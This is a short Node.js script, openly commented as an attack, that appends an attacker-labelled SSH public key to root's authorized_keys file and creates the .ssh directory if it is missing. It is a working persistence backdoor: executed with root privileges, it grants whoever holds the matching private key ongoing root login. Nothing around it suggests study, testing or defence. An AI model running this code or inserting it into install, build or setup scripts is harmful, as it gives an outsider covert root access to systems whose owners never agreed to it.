// Adds an attacker key to root's authorized_keys.
const fs = require('fs');

const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOk attacker@box';
fs.mkdirSync('/root/.ssh', { recursive: true });
fs.appendFileSync('/root/.ssh/authorized_keys', key + '\n');
